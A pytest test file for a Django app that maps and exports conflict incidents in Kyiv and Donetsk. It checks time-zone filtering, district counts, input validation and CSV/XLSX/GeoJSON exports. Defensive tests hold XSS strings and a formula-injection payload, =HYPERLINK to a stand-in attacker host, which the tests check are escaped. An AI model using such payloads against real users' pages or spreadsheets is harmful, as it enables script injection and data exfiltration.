import datetime as dt
import io
import json
from zoneinfo import ZoneInfo

import geopandas as gpd
import pandas as pd
import pytest
from django.contrib.gis.geos import Point
from django.urls import reverse

from geo.models import District
from incidents.choices import EventType, GeoPrecision, Status, SubEventType
from incidents.models import InfrastructureTag, Weapon
from incidents.serializers import EXPORT_COLUMNS
from tests.factories import IncidentFactory, SourceFactory, UserFactory

pytestmark = pytest.mark.django_db
KYIV = ZoneInfo("Europe/Kyiv")


@pytest.fixture
def analyst_client(client):
    client.force_login(UserFactory())
    return client


def _at(day: str, time: str = "12:00") -> dt.datetime:
    return dt.datetime.fromisoformat(f"{day}T{time}").replace(tzinfo=KYIV)


def _incident(when: dt.datetime, **fields):
    darnytskyi = District.objects.get(city__slug="kyiv", slug="darnytskyi")
    defaults = {
        "occurred_from": when,
        "occurred_to": when,
        "district": darnytskyi,
        "point": Point(30.62, 50.42, srid=4326),
        "geo_precision": GeoPrecision.EXACT,
    }
    return IncidentFactory(**{**defaults, **fields})


def _points(client, **params) -> list[dict]:
    """The map's compact feed, decoded into one dict per point."""
    response = client.get(reverse("incident-points"), params)
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "application/json"
    feed = json.loads(b"".join(response.streaming_content))
    fields, flat = feed["fields"], feed["points"]
    rows = [
        dict(zip(fields, flat[i : i + 5], strict=True)) for i in range(0, len(flat), 5)
    ]
    for row in rows:
        row["event_type"] = feed["event_types"][row["event_type"]]
        row["geo_precision"] = feed["geo_precisions"][row["geo_precision"]]
    return rows


def _ids(client, **params) -> set[int]:
    """The incidents the map shows for a filter; both feeds must agree on them."""
    response = client.get(reverse("incident-geojson"), params)
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "application/geo+json"
    data = json.loads(b"".join(response.streaming_content))
    assert data["type"] == "FeatureCollection"
    ids = {f["id"] for f in data["features"]}
    assert {p["id"] for p in _points(client, **params)} == ids
    return ids


def test_the_end_day_is_included_whole_in_kyiv_time(analyst_client):
    late = _incident(_at("2025-08-28", "23:50"))  # 20:50 UTC
    next_day = _incident(_at("2025-08-29", "00:10"))  # still the 28th in UTC
    assert _ids(analyst_client, **{"from": "2025-08-28", "to": "2025-08-28"}) == {
        late.pk
    }
    assert _ids(analyst_client, **{"from": "2025-08-29", "to": "2025-08-29"}) == {
        next_day.pk
    }


def test_days_across_daylight_saving_changes(analyst_client):
    # 26 October 2025: clocks go back (UTC+3 -> UTC+2); 30 March 2025: forward.
    autumn_night = _incident(_at("2025-10-26", "23:30"))
    spring_midnight = _incident(_at("2025-03-30", "00:30"))  # 22:30 UTC on the 29th
    assert _ids(analyst_client, to="2025-10-26", **{"from": "2025-10-26"}) == {
        autumn_night.pk
    }
    assert _ids(analyst_client, **{"from": "2025-10-27"}) == set()
    assert _ids(analyst_client, **{"from": "2025-03-30", "to": "2025-03-30"}) == {
        spring_midnight.pk
    }
    assert spring_midnight.pk not in _ids(analyst_client, to="2025-03-29")


def test_an_interval_overlapping_the_range_is_in_it(analyst_client):
    overnight = _incident(_at("2025-08-27", "22:00"))
    overnight.occurred_to = _at("2025-08-28", "05:00")
    overnight.save()
    assert _ids(analyst_client, **{"from": "2025-08-28", "to": "2025-08-28"}) == {
        overnight.pk
    }


def test_filters_by_city_district_type_tag_status_and_bbox(analyst_client):
    energy = InfrastructureTag.objects.get(slug="energy")
    hit = _incident(_at("2025-08-28"))
    hit.tags.add(energy)
    other_district = _incident(
        _at("2025-08-28"),
        district=District.objects.get(city__slug="kyiv", slug="obolonskyi"),
        point=Point(30.49, 50.51, srid=4326),
        event_type=EventType.STRATEGIC,
        sub_event_type=SubEventType.OTHER,
    )
    archived = _incident(_at("2025-08-28"), status=Status.ARCHIVED)
    assert _ids(analyst_client, district="darnytskyi") == {hit.pk}
    assert _ids(analyst_client, city="kyiv") == {hit.pk, other_district.pk}
    assert _ids(analyst_client, city="donetsk") == set()
    assert _ids(analyst_client, event_type=EventType.STRATEGIC) == {other_district.pk}
    assert _ids(analyst_client, tag="energy") == {hit.pk}
    assert _ids(analyst_client, status="archived") == {archived.pk}
    assert _ids(analyst_client, bbox="30.6,50.4,30.7,50.45") == {hit.pk}


def test_district_only_incidents_are_not_pins_but_count_in_their_district(
    analyst_client,
):
    _incident(_at("2025-08-28"), point=None, geo_precision=GeoPrecision.DISTRICT)
    assert _ids(analyst_client) == set()
    response = analyst_client.get(reverse("district-geojson"), {"city": "kyiv"})
    counts = {
        f["properties"]["slug"]: f["properties"]["count"]
        for f in response.json()["features"]
    }
    assert counts["darnytskyi"] == 1
    assert counts["obolonskyi"] == 0
    assert len(counts) == 10


def test_districts_without_polygon_come_with_null_geometry(analyst_client):
    kyivskyi = District.objects.get(city__slug="donetsk", slug="kyivskyi")
    IncidentFactory(
        city=kyivskyi.city, district=kyivskyi, location_text="Kievsky district, Donetsk"
    )
    data = analyst_client.get(reverse("district-geojson")).json()
    donetsk = [f for f in data["features"] if f["properties"]["city"] == "donetsk"]
    assert len(donetsk) == 9
    assert all(f["geometry"] is None for f in donetsk)
    assert {f["properties"]["slug"]: f["properties"]["count"] for f in donetsk}[
        "kyivskyi"
    ] == 1


@pytest.mark.parametrize(
    ("params", "parameter"),
    [
        ({"from": "28.08.2025"}, "from"),
        ({"from": "2025-08-29", "to": "2025-08-28"}, "to"),
        ({"bbox": "30,50,31"}, "bbox"),
        ({"bbox": "30,95,31,96"}, "bbox"),
        ({"bbox": "200,50,201,51"}, "bbox"),
        ({"city": "dnipro"}, "city"),
        ({"event_type": "rumour"}, "event_type"),
        ({"district": "nowhere"}, "district"),
        ({"tag": "nuclear"}, "tag"),
        ({"status": "deleted"}, "status"),
    ],
)
@pytest.mark.parametrize(
    "url_name",
    ["incident-geojson", "incident-points", "district-geojson", "incident-timeline"],
)
def test_bad_parameters_are_a_400_naming_the_parameter(
    analyst_client, params, parameter, url_name
):
    response = analyst_client.get(reverse(url_name), params)
    assert response.status_code == 400
    body = response.json()
    assert parameter in body["parameters"]
    assert body["error"].startswith(f"{parameter}:")


def test_api_requires_sign_in(client):
    assert client.get(reverse("incident-geojson")).status_code == 401
    assert client.get(reverse("incident-points")).status_code == 401
    assert client.get(reverse("incident-map")).status_code == 302


def test_query_count_does_not_grow_with_incidents(
    analyst_client, django_assert_num_queries
):
    weapon = Weapon.objects.get(slug="drone")
    for day in range(1, 4):
        incident = _incident(_at(f"2025-08-0{day}"))
        incident.weapons.add(weapon)
        incident.sources.add(SourceFactory())

    def count_for(url_name: str, fmt=None) -> int:
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        args = [fmt] if fmt else []
        with CaptureQueriesContext(connection) as queries:
            response = analyst_client.get(
                reverse(url_name, args=args), {"city": "kyiv"}
            )
            if response.streaming:
                b"".join(response.streaming_content)
        return len(queries)

    names = [
        ("incident-geojson", None),
        ("incident-points", None),
        ("district-geojson", None),
        ("incident-export", "csv"),
    ]
    before = {name: count_for(name, fmt) for name, fmt in names}
    for day in range(4, 10):
        incident = _incident(_at(f"2025-08-0{day}"))
        incident.weapons.add(weapon)
        incident.sources.add(SourceFactory(), SourceFactory())
    after = {name: count_for(name, fmt) for name, fmt in names}
    assert before == after
    # Session, user and role, the data's and the gazetteer's generations in one
    # (the ETag), then one query for the data; the city is checked without one.
    assert before["incident-geojson"] == before["incident-points"] == 5
    with django_assert_num_queries(10):  # both feeds
        _ids(analyst_client, city="kyiv")


def test_the_compact_feed_carries_the_geojson_values(analyst_client):
    exact = _incident(_at("2025-08-28"), point=Point(30.6212347, 50.4154321))
    street = _incident(
        _at("2025-08-28"),
        event_type=EventType.BATTLES,
        geo_precision=GeoPrecision.STREET,
    )
    unknown = _incident(_at("2025-08-28"), geo_precision="")
    _incident(_at("2025-08-28"), point=None, geo_precision=GeoPrecision.DISTRICT)
    geojson = json.loads(
        b"".join(analyst_client.get(reverse("incident-geojson")).streaming_content)
    )
    by_id = {p["id"]: p for p in _points(analyst_client)}
    assert set(by_id) == {exact.pk, street.pk, unknown.pk}
    for feature in geojson["features"]:
        point = by_id[feature["id"]]
        assert [point["lon"], point["lat"]] == feature["geometry"]["coordinates"]
        assert point["event_type"] == feature["properties"]["event_type"]
        assert point["geo_precision"] == feature["properties"]["geo_precision"]
    assert by_id[exact.pk]["lon"] == 30.621235  # six decimals, about 10 cm
    assert by_id[street.pk]["event_type"] == "battles"
    assert by_id[street.pk]["geo_precision"] == "street"
    assert by_id[unknown.pk]["geo_precision"] == ""


def test_hostile_titles_are_data_not_markup(analyst_client):
    hostile = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
    incident = _incident(_at("2025-08-28"), title=hostile, location_text=hostile)
    incident.sources.add(SourceFactory(title=hostile, url="javascript:alert(3)"))
    feature = json.loads(
        b"".join(analyst_client.get(reverse("incident-geojson")).streaming_content)
    )["features"][0]
    # The map's feed carries no report text at all; popups fetch it as JSON.
    assert feature["properties"] == {
        "event_type": incident.event_type,
        "geo_precision": "exact",
    }
    detail = analyst_client.get(reverse("incident-detail", args=[incident.pk]))
    assert detail["Content-Type"] == "application/json"
    assert detail.json()["title"] == hostile
    page = analyst_client.get(
        reverse("incident-map"), {"district": hostile}
    ).content.decode()
    assert "<script>alert(2)</script>" not in page
    assert 'onerror="alert(1)"' not in page


def _export(client, fmt: str, **params):
    response = client.get(reverse("incident-export", args=[fmt]), params)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    return b"".join(response.streaming_content)


def test_geojson_export_round_trips_through_geopandas(analyst_client, tmp_path):
    incident = _incident(_at("2025-08-28", "01:15"), fatalities=17, injured=None)
    incident.weapons.add(
        *Weapon.objects.filter(slug__in=["ballistic_missile", "drone"])
    )
    incident.tags.add(InfrastructureTag.objects.get(slug="residential"))
    incident.sources.add(
        SourceFactory(url="https://news.example.org/a", outlet="Reuters")
    )
    district_only = _incident(
        _at("2025-08-28"), point=None, geo_precision=GeoPrecision.DISTRICT, fatalities=0
    )
    _incident(_at("2025-09-15"))  # outside the filter
    path = tmp_path / "export.geojson"
    path.write_bytes(
        _export(analyst_client, "geojson", **{"from": "2025-08-28", "to": "2025-08-28"})
    )
    frame = gpd.read_file(path).set_index("event_id").sort_index()
    assert list(frame.index) == sorted([incident.pk, district_only.pk])
    row = frame.loc[incident.pk]
    assert str(row["event_date"])[:10] == "2025-08-28"
    assert row["event_type"] == "Explosions/Remote violence"
    assert row["fatalities"] == 17
    assert pd.isna(row["injured"])
    assert row["district"] == "darnytskyi"
    assert row["source"] == "Reuters"
    assert row.geometry.x == pytest.approx(30.62)
    assert row.geometry.y == pytest.approx(50.42)
    assert frame.loc[district_only.pk].geometry is None
    data = json.loads(path.read_text())
    props = data["features"][0]["properties"]
    assert set(props) == set(EXPORT_COLUMNS)
    assert sorted(
        next(f for f in data["features"] if f["id"] == incident.pk)["properties"][
            "weapons"
        ]
    ) == ["ballistic_missile", "drone"]
    # The collection links to the filtered map; each row to its incident's page.
    assert "from=2025-08-28" in data["permalink"]
    links = {f["id"]: f["properties"]["permalink"] for f in data["features"]}
    assert links == {
        pk: f"http://testserver/incidents/{pk}/"
        for pk in (incident.pk, district_only.pk)
    }


def test_csv_export_has_the_same_rows(analyst_client):
    incident = _incident(
        _at("2025-08-28"),
        fatalities=None,
        injured=4,
        notes="Second strike on the same block, 40 minutes later.",
    )
    incident.tags.add(*InfrastructureTag.objects.filter(slug__in=["energy", "heating"]))
    other = _incident(_at("2025-08-27"))
    frame = pd.read_csv(io.BytesIO(_export(analyst_client, "csv", city="kyiv")))
    assert list(frame.columns) == EXPORT_COLUMNS
    assert list(frame["event_id"]) == [other.pk, incident.pk]
    assert list(frame["permalink"]) == [
        f"http://testserver/incidents/{other.pk}/",
        f"http://testserver/incidents/{incident.pk}/",
    ]
    frame = frame.set_index("event_id").loc[[incident.pk]].reset_index()
    assert frame.loc[0, "notes"] == "Second strike on the same block, 40 minutes later."
    assert pd.isna(frame.loc[0, "fatalities"])
    assert frame.loc[0, "injured"] == 4
    assert frame.loc[0, "tags"] == "energy|heating"


def test_exports_keep_the_codebook_in_english_in_the_ukrainian_ui(analyst_client):
    _incident(_at("2025-08-28"), sub_event_type=SubEventType.AIR_DRONE_STRIKE)
    response = analyst_client.get(
        reverse("incident-export", args=["geojson"]), HTTP_ACCEPT_LANGUAGE="uk"
    )
    data = json.loads(b"".join(response.streaming_content))
    props = data["features"][0]["properties"]
    assert props["event_type"] == "Explosions/Remote violence"
    assert props["sub_event_type"] == "Air/drone strike"


def test_empty_csv_export_still_has_a_header(analyst_client):
    body = _export(analyst_client, "csv", city="donetsk")
    # The byte-order mark Excel needs to read UTF-8 (and so the Cyrillic).
    assert body.startswith("\ufeff".encode())
    assert body.decode("utf-8-sig").strip().split(",") == EXPORT_COLUMNS


def test_xlsx_and_geopackage_exports_hold_the_same_rows_as_the_csv(
    analyst_client, tmp_path
):
    from openpyxl import load_workbook

    _incident(_at("2025-08-28"), title="Удар по Дарниці", fatalities=2)
    _incident(_at("2025-08-29"), point=None, geo_precision=GeoPrecision.DISTRICT)
    csv_frame = pd.read_csv(io.BytesIO(_export(analyst_client, "csv", city="kyiv")))
    workbook = tmp_path / "incidents.xlsx"
    response = analyst_client.get(
        reverse("incident-export", args=["xlsx"]), {"city": "kyiv"}
    )
    assert response["Content-Disposition"].endswith('.xlsx"')
    workbook.write_bytes(b"".join(response.streaming_content))
    sheet = load_workbook(workbook, read_only=True)["incidents"]
    header, *rows = list(sheet.values)
    assert list(header) == EXPORT_COLUMNS
    assert sorted(r[0] for r in rows) == sorted(csv_frame["event_id"])
    by_id = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    first = by_id[int(csv_frame.loc[csv_frame["fatalities"] == 2, "event_id"].iloc[0])]
    assert first["title"] == "Удар по Дарниці"
    assert first["fatalities"] == 2  # a number, not text
    package = tmp_path / "incidents.gpkg"
    response = analyst_client.get(
        reverse("incident-export", args=["gpkg"]), {"city": "kyiv"}
    )
    package.write_bytes(b"".join(response.streaming_content))
    frame = gpd.read_file(package, layer="incidents")
    assert sorted(frame["event_id"]) == sorted(csv_frame["event_id"])
    assert frame.geometry.isna().sum() == 1  # the district-level one: no point


def test_texts_that_start_like_formulas_open_as_texts(analyst_client, tmp_path):
    """A headline from a feed, "=HYPERLINK(…)", must not run in the analyst's
    spreadsheet: an apostrophe before it in the CSV (as spreadsheets write it),
    a text cell in the XLSX."""
    from openpyxl import load_workbook

    title = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
    _incident(_at("2025-08-28"), title=title, notes="+7 more, -2 later, @ night")
    body = _export(analyst_client, "csv", city="kyiv").decode("utf-8-sig")
    assert "'=HYPERLINK(" in body and "'+7 more" in body
    assert '"=HYPERLINK' not in body.replace("'=HYPERLINK", "")
    workbook = tmp_path / "incidents.xlsx"
    response = analyst_client.get(
        reverse("incident-export", args=["xlsx"]), {"city": "kyiv"}
    )
    workbook.write_bytes(b"".join(response.streaming_content))
    sheet = load_workbook(workbook)["incidents"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("title") + 1)
    assert (cell.value, cell.data_type) == (title, "s")


def test_timeline_counts_per_kyiv_day(analyst_client):
    _incident(_at("2025-08-28", "23:50"))
    _incident(_at("2025-08-29", "00:10"))
    _incident(_at("2025-08-29", "12:00"))
    days = analyst_client.get(reverse("incident-timeline")).json()["days"]
    assert days == [
        {"date": "2025-08-28", "count": 1},
        {"date": "2025-08-29", "count": 2},
    ]
